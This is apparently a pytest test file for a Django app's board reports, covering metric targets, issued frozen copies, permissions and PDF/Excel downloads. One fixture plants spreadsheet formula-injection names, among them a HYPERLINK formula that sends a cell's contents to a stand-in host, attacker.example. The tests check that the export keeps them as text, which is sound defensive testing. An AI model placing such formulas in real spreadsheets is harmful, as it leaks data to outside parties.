"""Board reporting in the app: board metrics, targets over time, issuing frozen copies."""

import datetime as dt
import re

import numpy as np
import pytest
from django.core.exceptions import PermissionDenied

from qijourney.measures.models import DataPoint, Measure, MeasureTarget
from qijourney.reporting import selectors, services
from qijourney.reporting.models import IssuedReport
from qijourney.spc import analyse
from tests.factories import PASSWORD, MeasureFactory, PersonFactory
from tests.workbook import filled_cells, run_on_opening

MONTHS = [dt.date(2024, 1, 1) + dt.timedelta(days=31 * i) for i in range(20)]


@pytest.fixture
def executive(tree_a):
    return PersonFactory(provider=tree_a.provider, roles=["executive_lead"])


@pytest.fixture
def board(tree_a, executive):
    """Three board metrics of organisation A, one with a target that changed."""
    rng = np.random.default_rng(4)
    metrics = []
    for name, domain, chart, direction in (
        ("Falls", "Safe", "xmr", "decrease"),
        ("Sepsis screening", "Safe", "p", "increase"),
        ("Complaints", "Caring", "c", "decrease"),
    ):
        measure = Measure.objects.create(
            provider=tree_a.provider,
            name=name,
            domain=domain,
            chart_type=chart,
            direction=direction,
            on_board_report=True,
            reporting_unit=tree_a.provider,
            multiplier=100 if chart == "p" else 1,
            target=90 if chart == "p" else 5,
            metric_code=name.lower().replace(" ", "-"),
        )
        for i, day in enumerate(MONTHS):
            if chart == "p":
                DataPoint.objects.create(
                    measure=measure, date=day, numerator=80 + i % 5, denominator=100
                )
            else:
                DataPoint.objects.create(
                    measure=measure, date=day, value=float(rng.poisson(6) + (8 if i == 19 else 0))
                )
        metrics.append(measure)
    MeasureTarget.objects.create(measure=metrics[0], start_date=MONTHS[0], value=8)
    MeasureTarget.objects.create(measure=metrics[0], start_date=MONTHS[10], value=4)
    report = services.save_report(
        actor=executive, report=None, title="Board pack", period_end=None, measures=metrics
    )
    return report, metrics


def test_target_in_force_at_each_date(board):
    _, metrics = board
    frame = selectors.metrics_frame(metrics)
    falls = frame[frame["metric"] == "Falls"].reset_index(drop=True)
    assert falls["target"].iloc[0] == 8 and falls["target"].iloc[9] == 8
    assert falls["target"].iloc[10] == 4 and falls["target"].iloc[-1] == 4
    screening = frame[frame["metric"] == "Sepsis screening"]
    assert (screening["target"] == 90).all()


def test_report_icons_are_the_engines(board):
    report, metrics = board
    built = selectors.build(report)
    frame = selectors.metrics_frame(metrics)
    engine = analyse(
        frame,
        value="value",
        numerator="numerator",
        denominator="denominator",
        date="date",
        series="metric",
        chart_column="chart",
        improvement_column="direction",
        target_column="target",
        multiplier_column="scale",
    ).summary.set_index("metric")
    assert [row.name for row in built.rows] == ["Falls", "Sepsis screening", "Complaints"]
    for row in built.rows:
        assert row.variation == engine.loc[row.name, "variation_icon"]
        assert row.assurance == engine.loc[row.name, "assurance_icon"]
    assert [d for d, _ in built.domains] == ["Safe", "Caring"]
    screening = next(r for r in built.rows if r.name == "Sepsis screening")
    assert 80 <= screening.centre <= 85  # shown as a percentage


def test_an_issued_report_never_changes(board, executive):
    report, metrics = board
    issued = services.issue(actor=executive, report=report)
    frozen = (issued.html_fragment, bytes(issued.pdf), bytes(issued.xlsx))
    assert bytes(issued.pdf).startswith(b"%PDF") and "Falls" in issued.html_fragment
    DataPoint.objects.filter(measure=metrics[0]).update(value=99)
    live = selectors.build(report)
    assert next(r for r in live.rows if r.name == "Falls").latest_value == 99
    issued = IssuedReport.objects.get(pk=issued.pk)
    assert (issued.html_fragment, bytes(issued.pdf), bytes(issued.xlsx)) == frozen


def test_only_central_qi_or_the_executive_lead_manage_reports(board, tree_a):
    report, metrics = board
    board_member = PersonFactory(provider=tree_a.provider, roles=["board_member"])
    with pytest.raises(PermissionDenied):
        services.issue(actor=board_member, report=report)
    with pytest.raises(PermissionDenied):
        services.promote(actor=board_member, measure=metrics[0], domain="Safe")


def test_a_project_measure_is_promoted_with_its_data(project_a, qi_lead_a):
    measure = MeasureFactory(project=project_a, name="Checklist use")
    promoted = services.promote(
        actor=qi_lead_a, measure=measure, domain="Safe", metric_code="checklist"
    )
    assert promoted.on_board_report and promoted.reporting_unit == project_a.unit
    assert promoted.pk == measure.pk  # the same measure: its data stays where it is


def test_pages_and_downloads(board, executive, client, tree_a):
    report, _ = board
    client.login(username=executive.email, password=PASSWORD)
    page = client.get(f"/board/reports/{report.pk}/").content.decode()
    assert "Falls" in page and ("Special cause" in page or "Common cause" in page)
    for kind, mime in (
        ("pdf", "application/pdf"),
        ("xlsx", "spreadsheetml"),
        ("html", "text/html"),
    ):
        response = client.get(f"/board/reports/{report.pk}/download.{kind}")
        assert response.status_code == 200 and mime in response["Content-Type"]
    issued = client.post(f"/board/reports/{report.pk}/issue/")
    assert issued.status_code == 302
    copy = IssuedReport.objects.get()
    assert client.get(f"/board/issued/{copy.pk}/download.pdf").content.startswith(b"%PDF")


def test_drill_down_shows_the_same_metric_at_every_level(board, executive, client, tree_a):
    _, metrics = board
    ward = Measure.objects.create(
        provider=tree_a.provider,
        name="Falls",
        domain="Safe",
        on_board_report=True,
        reporting_unit=tree_a.ward,
        metric_code="falls",
        direction="decrease",
    )
    DataPoint.objects.bulk_create(DataPoint(measure=ward, date=d, value=3.0) for d in MONTHS)
    client.login(username=executive.email, password=PASSWORD)
    page = client.get(f"/board/metrics/{metrics[0].pk}/drill-down/").content.decode()
    assert tree_a.ward.name in page and tree_a.provider.name in page


def test_add_a_board_metric_and_change_its_target(executive, client, tree_a):
    client.login(username=executive.email, password=PASSWORD)
    response = client.post(
        "/board/metrics/new/",
        {
            "name": "Staff turnover",
            "kind": "outcome",
            "domain": "People",
            "reporting_unit": tree_a.provider.pk,
            "frequency": "monthly",
            "direction": "decrease",
            "chart_type": "xmr",
            "multiplier": "1",
            "target": "12",
        },
    )
    problems = re.findall(r"href=\"#id_(\w+)\"", response.content.decode())
    assert response.status_code == 302, problems
    metric = Measure.objects.get(name="Staff turnover")
    assert metric.on_board_report and metric.domain == "People"
    client.post(
        f"/measures/{metric.pk}/targets/", {"target-start_date": "2024-06-01", "target-value": "10"}
    )
    metric.refresh_from_db()
    assert metric.target == 10
    assert list(metric.targets.values_list("value", flat=True)) == [10]


def test_a_report_with_no_data_or_bad_data_does_not_fail(board, executive, client):
    report, metrics = board
    client.login(username=executive.email, password=PASSWORD)
    report.period_end = dt.date(2000, 1, 1)  # before any data
    report.save()
    assert client.get(f"/board/reports/{report.pk}/").status_code == 200
    assert client.get(f"/board/reports/{report.pk}/download.pdf").status_code == 200
    report.period_end = None
    report.save()
    DataPoint.objects.filter(measure=metrics[1]).update(numerator=150)  # more than 100 asked
    page = client.get(f"/board/reports/{report.pk}/")
    assert page.status_code == 200 and "cannot be drawn" in page.content.decode()
    issued = client.post(f"/board/reports/{report.pk}/issue/")
    assert issued.status_code == 302 and not IssuedReport.objects.exists()


def test_baseline_flags_reach_the_board_report(board):
    report, metrics = board
    DataPoint.objects.filter(measure=metrics[0], date__lt=MONTHS[12]).update(baseline=True)
    built = selectors.build(report)
    frame = selectors.metrics_frame(metrics)
    assert frame["baseline"].any()
    falls = next(r for r in built.rows if r.name == "Falls")
    first = frame[(frame["metric"] == "Falls") & frame["baseline"]]["value"]
    assert falls.centre == pytest.approx(first.mean())


@pytest.fixture
def awkward_board(board):
    """The board's metrics renamed as people might type them: like formulas, an error value,
    a vertical tab pasted from a word processor."""
    report, metrics = board
    for measure, name, domain in zip(
        metrics,
        ['=HYPERLINK("https://attacker.example/?d="&D5,"Click to verify")', "#N/A", "Falls\x0bday"],
        ["@Safe", "+Effective", "-Caring"],
        strict=True,
    ):
        measure.name, measure.domain = name, domain
        measure.save()
    report.title = "=1+1 board"
    report.save()
    return report


def assert_text_kept_as_text(content: bytes) -> None:
    cells = filled_cells(content)
    assert run_on_opening(cells) == []
    text = {c.value for c in cells if c.data_type == "s"}
    assert {
        '=HYPERLINK("https://attacker.example/?d="&D5,"Click to verify")',
        "#N/A",
        "Falls\ufffdday",  # what Excel cannot hold is replaced where it stood
        "@Safe",
        "+Effective",
        "-Caring",
        "=1+1 board",
    } <= text
    numbers = [c for c in cells if c.column == 4 and c.row > 4]  # the latest values
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_excel_download_and_issued_copy_keep_text_as_text(awkward_board, executive, client):
    client.login(username=executive.email, password=PASSWORD)
    response = client.get(f"/board/reports/{awkward_board.pk}/download.xlsx")
    assert response.status_code == 200
    assert_text_kept_as_text(response.content)
    assert client.post(f"/board/reports/{awkward_board.pk}/issue/").status_code == 302
    copy = IssuedReport.objects.get()
    assert_text_kept_as_text(bytes(copy.xlsx))
    issued = client.get(f"/board/issued/{copy.pk}/download.xlsx")
    assert issued.status_code == 200 and issued.content == bytes(copy.xlsx)
    pdf = client.get(f"/board/reports/{awkward_board.pk}/download.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
